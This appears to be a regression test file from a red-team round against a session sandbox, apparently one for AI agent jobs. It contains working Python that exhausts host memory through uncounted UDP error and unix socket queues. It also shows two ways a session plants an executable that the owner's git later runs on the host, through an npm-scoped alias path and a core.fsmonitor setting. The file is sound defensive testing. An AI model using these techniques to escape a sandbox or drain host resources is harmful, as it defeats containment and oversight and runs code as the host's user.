/**
 * Adversary round 20: attacks on the newest fixes of main (4935033), as root, in real sessions of
 * the unit harness. Each test asserts the safe behaviour and is skipped while its `OPEN` flag is true
 * (main stays green); I ran each un-skipped on 4935033 and it failed as written below.
 *
 * Kind 6 (a session's limits; kernel memory the socket watch does not see): the error queue of UDP
 * sockets. Steps: a session limited to 128 MiB (`maxSessionMemoryBytes`) runs a background python
 * job that opens UDP sockets on the sandbox's loopback, raises each one's `SO_RCVBUF` to 4 MiB (8 MiB
 * once doubled), turns on `SO_TIMESTAMPING` (`SOF_TIMESTAMPING_TX_SOFTWARE | SOFTWARE`) and
 * `IP_RECVERR`, and sends 400 datagrams of 60,000 bytes each to a port nobody listens on; it never
 * reads the error queue (`MSG_ERRQUEUE`) and keeps the sockets. OBSERVED (load average 0.3, twice):
 * the job held 32 sockets with 268,405,760 bytes queued (rx_queue of `/proc/net/udp` in the
 * sandbox's namespace) and wrote ./held within about 1 s; it was not killed, the next command ran
 * with no note; the host's MemAvailable fell by 260 MiB meanwhile, in a session whose whole budget
 * is 128 MiB (socket part 32 MiB). Why: the loopback driver timestamps every skb it sends
 * (`skb_tx_timestamp`), and `__skb_tstamp_tx` queues a clone of the whole sent datagram (the data
 * stays shared, 64 KiB of page frags a datagram) on the sender's error queue; ICMP port-unreachable
 * errors (not rate limited on loopback) are queued there too: with `IP_RECVERR` alone and no timestamping, 20,000
 * sends filled one socket's error queue to 8,387,840 bytes (run on the host, one socket), so refusing the
 * timestamping options alone is no fix. `sock_queue_err_skb` charges the
 * socket's `sk_rmem_alloc` only (`skb_set_owner_r`: no `__sk_mem_raise_allocated`, so no memory
 * cgroup charge and no UDP pool), and the skbs were allocated with no `__GFP_ACCOUNT`: neither the
 * memory cgroup's limit nor `memory.kmem.tcp.usage_in_bytes` counts them, and the watch
 * (guard.ts `socketMemory`) adds only that counter and the netlink sockets' Rmem/Wmem. Each socket is
 * bounded by its receive buffer only; the sockets by `ulimit -n` times `pids.max`. Not run past 256 MiB.
 * Fix for the whole kind (kernel memory a socket holds outside the cgroup's counters): count, per
 * network namespace of the session, the receive and send queues of every socket the namespace's
 * `/proc/<pid>/net/{udp,udp6,raw,raw6,unix,packet}` lists (rx_queue is `sk_rmem_alloc`, error queue
 * included), as `netlinkBytes` does for netlink, or better bound what any socket may hold
 * (`SO_RCVBUF` above `net.core.rmem_default` refused by seccomp, the timestamping options refused)
 * together with a bound on the count of sockets.
 *
 * Fixed (the tests run; guard.ts `socketMemory`, `uncharged`): every 25 ms the watch also reads, per
 * network namespace of the session, `/proc/<pid>/net/protocols` and the socket tables of the
 * protocols that have sockets there (udp, udp6, udplite, raw, icmp, their v6 forms, tcp for the data
 * it holds, packet), and adds what their queues hold past the cgroup's TCP counter; the cgroup's TCP
 * limit is now three quarters of the socket budget (guard.ts `tcpLimit`), so that an ordinary UDP
 * job at that limit is not killed. Before the fix, then after (the most bytes the job's UDP sockets
 * queued at once, sampled every 50 ms on the host from its namespace's tables; load average 5 to 11;
 * after: two runs, each killed with the note): timestamped clones, 32 sockets of 8 MiB: 268,405,760,
 * then killed before a sample saw any; the same on 1,261 IPv6 sockets of the default buffer:
 * 267,896,928, then 31,868,032 and 33,991,680; ICMP errors alone, 160 MiB aimed: 167,764,480, then
 * 33,552,896 twice; ICMPv6 errors alone: 167,764,480, then 33,553,728 and 33,552,896; the sockets
 * sent away in a unix message and closed: 268,405,760, then 13,853,536 and 22,676,000. What passes
 * the budget is what the job queues within one check (about 1 GB/s here). Tried against the fix and held: raw, ping and
 * packet sockets cannot be opened (EPERM, EACCES, EAFNOSUPPORT), so their tables stay empty; unix
 * datagram sockets are refused (seccomp), and unix seqpacket pairs (the same send code), whose queues
 * `/proc` does not list, are charged to the memory cgroup: the job's sends failed with ENOBUFS at
 * 89,128,960 bytes of its 128 MiB session.
 *
 * Kind 6 (git files the person's host git will obey): a missing program whose path holds a character
 * of `NOT_A_PATH`. Steps: the person's `.git/config` says `alias.fmt = !node_modules/@biomejs/biome/bin/biome
 * format .` (an npm scoped package's binary, before `npm install`; pnpm's `node_modules/.pnpm/<pkg>@<version>/…`
 * is the same); a session starts there, runs `mkdir -p node_modules/@biomejs/biome/bin` and writes an executable
 * `biome` there; it closes; the person runs `git fmt`. OBSERVED: the file stays, with no audit note, and the
 * person's git runs it: the marker on the host holds `root`. Why: git-guard.ts `valueFiles` records a missing
 * word only when it matches `PATH_WORD` and not `NOT_A_PATH` (`/[$*?[\]{}%@\`]/`, meant for expansions, globs,
 * placeholders and addresses), so the whole word is skipped for its `@`; its tails after each `/` are recorded
 * against the wrong folders (`<ws>/biome/bin/biome`, `<ws>/bin/biome`), and the word with the `@` is never tried
 * whole. Fix for the kind (a word dropped by a filter meant to drop non-paths): record every word that names a
 * path in the workspace as a shell would take it literally (quote-free words with `@`, `+`, `%`, `{`, `[` are
 * file names to `sh`), and drop only words that hold a shell expansion (`$`, a backquote, an unquoted glob the
 * shell would expand: then record the literal and each glob match); or, wider, record the folders on the way
 * (`node_modules/`) as the include folders are, so that anything made under a named missing path is noted.
 * (docs/security.md says such words are not recorded; it does not list the npm-scope case as open.)
 *
 * Kind 6 (git files the person's host git will obey): a repository the session makes at the root of a workspace
 * that has none. Steps: the person (`aj-owner-test`, not root: bash then runs as the person) owns a repository
 * whose package `packages/web` is the workspace (no `.git` there; the repository's own is above it); the session runs
 * `git init -q . && git config core.fsmonitor ./fsmon.sh` and writes an executable `fsmon.sh`; it closes; the
 * person runs `git status` in `packages/web`. OBSERVED: the marker holds `aj-owner-test`: git's discovery finds
 * the session's `packages/web/.git` first and runs its fsmonitor. Why: git-audit.ts `recordGit` returns nothing
 * when the workspace's root holds no git dir (`gitDirOf`), so no audit runs at all, and git-guard.ts
 * `guardOutside` binds only what the config above names; a new `.git` "in a subdirectory" is held only where the
 * root has one. The same with a root-owned workspace held by chance: bash runs as `agent-jobs` there and the
 * person's git refuses the session's `.git` for its owner ("dubious ownership"). Distinct from the known
 * open gap of outside-git-dir.test.ts (a missing program the config above names): here nothing of the person's
 * config is involved. Fix for the kind (a git dir the session makes where git's discovery meets it before the
 * person's): where the workspace's root holds no `.git`, hold the name (bind an empty read-only placeholder
 * folder at `<workspace>/.git` in the sandbox only, which git's discovery skips as no repository, or refuse
 * `git init` there by policy), or run the audit's walk for new git dirs (`.git` folders and files, `HEAD` +
 * `objects` + `refs` anywhere) in such workspaces too, with the quarantine kept outside the workspace (the
 * worker's own folder) when there is no root git dir to keep it in.
 *
 * Tried and held, or not pursued (one line each; run unless marked read):
 * - The same `.git` made at the root of a root-owned package workspace: bash runs as `agent-jobs`, and the
 *   person's (root's) git refuses the session's `.git` for "dubious ownership" (run; held by that, not by a guard).
 * - Other socket families for uncharged queues (AF_PACKET, AF_ALG, raw, ping): refused by seccomp
 *   (`ALLOWED_SOCKET_FAMILIES`) or need CAP_NET_RAW; ping sockets off (`ping_group_range` 1 0) (read).
 * - Netlink bytes of a namespace the watch does not look up: every process of the sandbox is in the one
 *   namespace bash is in (looked up first); `unshare` is refused; an exact run's fresh bwrap namespace dies with it (read).
 * - held-binds.ts: a file replaced by rename is held again from its folder's descriptor, a deleted folder made
 *   again is held again; both are what the host now holds, which a sibling session could already write (read: no
 *   new reach through this session's binds).
 * - git-audit.ts `appeared` then `move` of a missing path, a folder on the way swapped for a symlink to a root-only
 *   host folder between the two: `move` opens the parent from the workspace one name at a time without following a
 *   link and renames the last name in it, so the link, never its target, is moved (read).
 * - host-git-config.ts: configs and includes in the workspace are made and bound read-only; a FIFO or
 *   unparsable host config refuses the start, but the session cannot make one there (read; host-git-config.test.ts).
 */
import * as fs from 'node:fs';
import { spawnSync } from 'node:child_process';
import * as path from 'node:path';
import { startSession, tempDir } from '../session/helpers';
import { asUser, ensurePerson, hostBash, personsRepo, plant, ran } from './persons-repo';
import { available, holdMachinePoolForFile, KILLED_FOR_SOCKETS, watchJob } from './socket-jobs';

/** The error queues of UDP sockets (kind 6, a session's limits) worked on 4935033; guard.ts `socketMemory` now counts every UDP socket's queues. */
const OPEN = false;
const t = OPEN ? test.skip : test;
/** The missing program under an npm scope (kind 6, git files) worked on 4935033; git-guard.ts now records words with `@`. */
const OPEN_SCOPE = false;
const tScope = OPEN_SCOPE ? test.skip : test;
/**
 * A `.git` the session makes at the root of a monorepo package (kind 6, git files) worked on 4935033; git-audit.ts now
 * audits a workspace with no root git dir too, `.git` there a missing path (moved at once by the watch).
 */
const OPEN_NEW_ROOT = false;
const tNewRoot = OPEN_NEW_ROOT ? test.skip : test;

// The host's free memory is the machine's: no other test file may fill or measure it meanwhile.
holdMachinePoolForFile();

const isRoot = process.getuid?.() === 0;
const dRoot = isRoot ? describe : describe.skip;
const MiB = 1024 * 1024;

/**
 * Python run in the session: `errq.py <mode> <MiB> <SO_RCVBUF bytes, 0: the default>` fills about
 * MiB of UDP error queues on the sandbox's loopback, never read: each socket sends to a port nobody
 * listens on. Modes: `ts4`/`ts6` turn on `SO_TIMESTAMPING` (software TX stamps: a clone of each
 * 60,000-byte datagram sent is queued) and `IP_RECVERR`/`IPV6_RECVERR`; `icmp4`/`icmp6` turn on
 * only the latter (one ICMP or ICMPv6 port-unreachable error a 1-byte datagram); `inflight` (with
 * ts4) sends each filled socket over a unix socketpair to itself (SCM_RIGHTS) and closes its own
 * descriptor, so that only the message in flight holds it (a unix stream pair: the sandbox
 * refuses unix datagram sockets). Then `<sockets> <receive buffers>
 * <bytes queued (rx_queue of /proc/net/udp and udp6)>` to ./held, and everything kept 20 s.
 */
const HOLD_ERRQUEUE = `import array, socket, sys, time
open('started', 'w').close()
mode, target, rcvbuf = sys.argv[1], int(sys.argv[2]) << 20, int(sys.argv[3])
v6 = mode.endswith('6')
fam, host = (socket.AF_INET6, '::1') if v6 else (socket.AF_INET, '127.0.0.1')
stamp = mode.startswith('ts') or mode == 'inflight'
dead = socket.socket(fam, socket.SOCK_DGRAM); dead.bind((host, 0)); port = dead.getsockname()[1]; dead.close()
chunk = b'x' * (60000 if stamp else 1)
pair = socket.socketpair(socket.AF_UNIX, socket.SOCK_STREAM)
keep, total, n = [], 0, 0
def queued():
    t = 0
    for name in ('udp', 'udp6'):
        for line in open('/proc/net/' + name).read().splitlines()[1:]:
            tx, rx = line.split()[4].split(':')
            t += int(tx, 16) + int(rx, 16)
    return t
try:
    while total < target:
        s = socket.socket(fam, socket.SOCK_DGRAM)
        if rcvbuf: s.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, rcvbuf)
        if stamp: s.setsockopt(socket.SOL_SOCKET, 37, 1 << 1 | 1 << 4)
        if v6: s.setsockopt(41, 25, 1)
        else: s.setsockopt(socket.SOL_IP, 11, 1)
        s.setblocking(False)
        rcv = s.getsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF)
        for i in range(400 if stamp else rcv // 256):
            try: s.sendto(chunk, (host, port))
            except OSError: pass
        total += rcv
        n += 1
        if mode == 'inflight':
            pair[0].sendmsg([b'x'], [(socket.SOL_SOCKET, socket.SCM_RIGHTS, array.array('i', [s.fileno()]))])
            s.close()
        else: keep.append(s)
except OSError as e: print('err', e, file=sys.stderr)
open('held', 'w').write('%d %d %d' % (n, total, queued()))
time.sleep(20)
`;

/**
 * Bytes queued on the UDP sockets of the network namespace of the job of `script` in `ws` (the
 * `tx_queue:rx_queue` columns of its `/proc/<pid>/net/udp` and `udp6`, read on the host), or 0
 * when no such job runs.
 */
function queuedInJobNamespace(ws: string, script: string): number {
  for (const pid of fs.readdirSync('/proc')) {
    try {
      if (
        !/^\d+$/.test(pid) ||
        fs.readlinkSync(`/proc/${pid}/cwd`) !== ws ||
        !fs.readFileSync(`/proc/${pid}/cmdline`, 'utf8').includes(script)
      )
        continue;
      let total = 0;
      for (const table of ['udp', 'udp6']) {
        for (const line of fs.readFileSync(`/proc/${pid}/net/${table}`, 'utf8').split('\n').slice(1)) {
          const [tx, rx] = (line.trim().split(/\s+/)[4] ?? '0:0').split(':');
          total += parseInt(tx ?? '0', 16) + parseInt(rx ?? '0', 16);
        }
      }
      return total;
    } catch {
      /* gone meanwhile */
    }
  }
  return 0;
}

/** What {@link errorQueues} saw. */
interface ErrorQueues {
  /** What ./held says ('' when the job was killed before it wrote it). */
  held: string;
  /** Whether the job still ran, having written nothing in 60 s (not killed: a slow machine). */
  running: boolean;
  /** The most bytes the job's UDP sockets held at once, by the host's reads of the job's namespace. */
  peakQueued: number;
  /** The host's largest drop of available memory meanwhile, MiB (the rest of the machine moves it too). */
  dropMiB: number;
  /** The output of the session's next command (where a kill of the guard's is noted) and of errq.err. */
  next: string;
}

/** Runs errq.py (`mode`, `mib` MiB, receive buffers of `rcvbuf` bytes, 0: the default) in a session limited to 128 MiB (socket part 32 MiB). */
async function errorQueues(mode: string, mib: number, rcvbuf: number): Promise<ErrorQueues> {
  const { ws } = personsRepo();
  fs.writeFileSync(path.join(ws, 'errq.py'), HOLD_ERRQUEUE);
  const before = available();
  let low = before;
  const s = await startSession({ cwd: ws, workspace: ws, timeoutMs: 120_000, limits: { maxSessionMemoryBytes: 128 * MiB } });
  await s.run(`(python3 errq.py ${mode} ${mib} ${rcvbuf} >/dev/null 2>errq.err &)`);
  const { peak, held, running } = await watchJob(ws, 'errq.py', () => {
    low = Math.min(low, available());
    return queuedInJobNamespace(ws, 'errq.py');
  });
  const next = await s.run('cat errq.err');
  await s.close();
  return { held, running, peakQueued: peak, dropMiB: Math.round((before - low) / MiB), next: next.output };
}

/**
 * What a test of the error queues asserts: the job is killed at the session's socket budget (32 MiB)
 * before its sockets held the session's whole budget (128 MiB), and the next command says why. The
 * host's free memory is only reported.
 */
function expectKilledForSockets(r: ErrorQueues): void {
  expect({
    held: r.held,
    running: r.running,
    peakPastTheBudget: r.peakQueued >= 128 * MiB,
    hostAvailableDropMiB: r.dropMiB,
    next: r.next,
  }).toEqual({
    held: '',
    running: false,
    peakPastTheBudget: false,
    hostAvailableDropMiB: expect.any(Number) as number,
    next: expect.stringMatching(KILLED_FOR_SOCKETS) as string,
  });
}

dRoot("kind 6: a UDP socket's error queue holds kernel memory the socket watch does not see", () => {
  t(
    'a job of a session limited to 128 MiB cannot hold 256 MiB of timestamped clones on UDP error queues',
    async () => {
      expectKilledForSockets(await errorQueues('ts4', 256, 4 << 20));
    },
    180_000,
  );

  t(
    'nor on the error queues of many IPv6 sockets of the default receive buffer each',
    async () => {
      expectKilledForSockets(await errorQueues('ts6', 256, 0));
    },
    180_000,
  );

  t(
    'nor with ICMP errors alone (IP_RECVERR, no timestamping)',
    async () => {
      expectKilledForSockets(await errorQueues('icmp4', 160, 4 << 20));
    },
    180_000,
  );

  t(
    'nor with ICMPv6 errors alone (IPV6_RECVERR)',
    async () => {
      expectKilledForSockets(await errorQueues('icmp6', 160, 4 << 20));
    },
    180_000,
  );

  t(
    'nor with sockets whose only reference is a message in flight on a unix socket (SCM_RIGHTS)',
    async () => {
      expectKilledForSockets(await errorQueues('inflight', 256, 4 << 20));
    },
    180_000,
  );

  test('raw, ping and packet sockets, whose queues the watch would count too, cannot be opened', async () => {
    const ws = tempDir();
    const s = await startSession({ cwd: ws, workspace: ws });
    const r = await s.run(`python3 -c "
import socket
for name, fam, typ, proto in [('raw4', 2, 3, 17), ('raw6', 10, 3, 17), ('ping4', 2, 2, 1), ('ping6', 10, 2, 58), ('packet', 17, 3, 0)]:
    try: socket.socket(fam, typ, proto); print(name, 'opened')
    except OSError as e: print(name, e.errno)
"`);
    expect(r.output).not.toContain('opened');
    expect(r.output.trim().split('\n')).toHaveLength(5);
  });
});

/**
 * Python run in the session: unix seqpacket socketpairs (the sandbox refuses unix datagram sockets;
 * seqpacket is sent by the same code, `unix_dgram_sendmsg`) whose sender's `SO_SNDBUF` is 4 MiB (8 MiB
 * doubled) each send messages of 1 MiB until the send would block, never read, until argv[1] MiB are
 * queued; then `<pairs> <bytes>` to ./held, kept 20 s.
 */
const HOLD_UNIX = `import socket, sys, time
open('started', 'w').close()
target = int(sys.argv[1]) << 20
keep, total, chunk = [], 0, b'x' * (1 << 20)
try:
    while total < target:
        a, b = socket.socketpair(socket.AF_UNIX, socket.SOCK_SEQPACKET)
        a.setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, 4 << 20); a.setblocking(False)
        try:
            while total < target: total += a.send(chunk)
        except BlockingIOError: pass
        keep += [a, b]
except OSError as e: print('err', e, file=sys.stderr)
open('held', 'w').write('%d %d' % (len(keep) // 2, total))
time.sleep(20)
`;

dRoot('kind 6: unread unix seqpacket queues (which /proc lists with no queue sizes)', () => {
  test('a job of a session limited to 128 MiB cannot queue 256 MiB on them: the memory cgroup charges them', async () => {
    const { ws } = personsRepo();
    fs.writeFileSync(path.join(ws, 'unix.py'), HOLD_UNIX);
    const before = available();
    const s = await startSession({ cwd: ws, workspace: ws, timeoutMs: 120_000, limits: { maxSessionMemoryBytes: 128 * MiB } });
    await s.run('(python3 unix.py 256 >/dev/null 2>unix.err &)');
    const { low, held } = await watchJob(ws, 'unix.py', available);
    const next = await s.run('cat unix.err');
    await s.close();
    // Safe: the job is killed, or its sends fail (ENOBUFS) before the session's whole budget is queued.
    const queued = held === '' ? 0 : Number(held.split(' ')[1]);
    expect({ queuedPastTheBudget: queued >= 128 * MiB, hostAvailableDropMiB: Math.round((before - low) / MiB), next: next.output }).toEqual(
      {
        queuedPastTheBudget: false,
        hostAvailableDropMiB: expect.any(Number) as number,
        next: held === '' ? expect.stringMatching(/memory limit|socket budget/) : expect.stringContaining('No buffer space available'),
      },
    );
  }, 180_000);
});

dRoot('kind 6: a missing program the config names under an npm scope (`@scope/`) is not recorded', () => {
  tScope(
    "alias.fmt = !node_modules/@biomejs/biome/bin/biome format ., before `npm install`: the person's `git fmt` does not run the session's file",
    async () => {
      const { ws, git, marker } = personsRepo();
      try {
        git('config', 'alias.fmt', '!node_modules/@biomejs/biome/bin/biome format .');
        const s = await startSession({ cwd: ws, workspace: ws });
        const r = await s.run(
          `mkdir -p node_modules/@biomejs/biome/bin && ${plant(marker, 'node_modules/@biomejs/biome/bin/biome')} && echo planted`,
        );
        await s.close();
        hostBash(ws, 'git fmt');
        // Moved at once by the watch of the missing paths (the plant's chmod then fails) or by the command's audit.
        expect({ moved: /moved to \.git\/agent-jobs-quarantine/.test(r.output), ran: ran(marker) }).toEqual({
          moved: true,
          ran: 'not run',
        });
      } finally {
        fs.rmSync(marker, { force: true });
      }
    },
  );
});

/** The person who owns the workspace (owner.test.ts's user, made when missing): a person's workspace is not root's. */
const PERSON = 'aj-owner-test';

dRoot("kind 6: a `.git` the session makes at the root of a workspace that had none (a monorepo's package)", () => {
  tNewRoot("the person's `git status` in the package does not run the session's fsmonitor", async () => {
    const { uid, gid } = ensurePerson(PERSON);
    const top = tempDir();
    const ws = path.join(top, 'packages', 'web');
    const marker = `${top}-host-marker`;
    fs.mkdirSync(ws, { recursive: true });
    fs.writeFileSync(path.join(ws, 'index.js'), '1\n');
    spawnSync('chown', ['-R', `${uid}:${gid}`, top]);
    asUser(PERSON, ['git', 'init', '-q', '-b', 'main'], top);
    asUser(PERSON, ['git', 'add', '.'], top);
    asUser(PERSON, ['git', '-c', 'user.name=p', '-c', 'user.email=p@example.com', 'commit', '-qm', 'one'], top);
    try {
      const s = await startSession({ cwd: ws, workspace: ws });
      const r = await s.run(`git init -q . && git config core.fsmonitor ./fsmon.sh && ${plant(marker, 'fsmon.sh')} && echo planted`);
      await s.close();
      asUser(PERSON, ['git', 'status', '--short'], ws);
      expect({ moved: /\.git \(a \.git made at the root/.test(r.output), ran: ran(marker) }).toEqual({ moved: true, ran: 'not run' });
    } finally {
      fs.rmSync(marker, { force: true });
    }
  });
});
